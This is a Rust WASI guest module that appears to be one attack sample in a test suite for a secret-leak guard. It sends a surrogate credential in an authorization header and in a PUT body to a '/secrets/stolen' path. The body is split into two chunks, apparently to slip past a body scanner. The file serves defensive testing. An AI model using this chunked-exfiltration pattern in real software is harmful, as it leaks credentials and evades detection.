//! Sends its surrogate in the body, in two chunks.

use guests::bindings::wasi::http::outgoing_handler;
use guests::bindings::wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
use guests::{VAULT, describe, surrogate};

guests::attack!(attack);

fn attack<R>(_: &R) -> String {
    let surrogate = surrogate();
    let fields = Fields::new();
    let _ = fields.append("authorization", format!("Bearer {surrogate}").as_bytes());
    let request = OutgoingRequest::new(fields);
    let _ = request.set_method(&Method::Put);
    let _ = request.set_scheme(Some(&Scheme::Https));
    let _ = request.set_authority(Some(VAULT));
    let _ = request.set_path_with_query(Some("/secrets/stolen?api-version=7.4"));
    let Ok(body) = request.body() else { return "no body".to_owned() };
    let answer = match outgoing_handler::handle(request, None) {
        Ok(answer) => answer,
        Err(code) => return guests::refused(&code),
    };
    let (first, second) = surrogate.split_at(30);
    if let Ok(stream) = body.write() {
        for part in ["{\"value\": \"", first, second, "\"}"] {
            let _ = stream.blocking_write_and_flush(part.as_bytes());
        }
    }
    let _ = OutgoingBody::finish(body, None);
    describe(&answer)
}
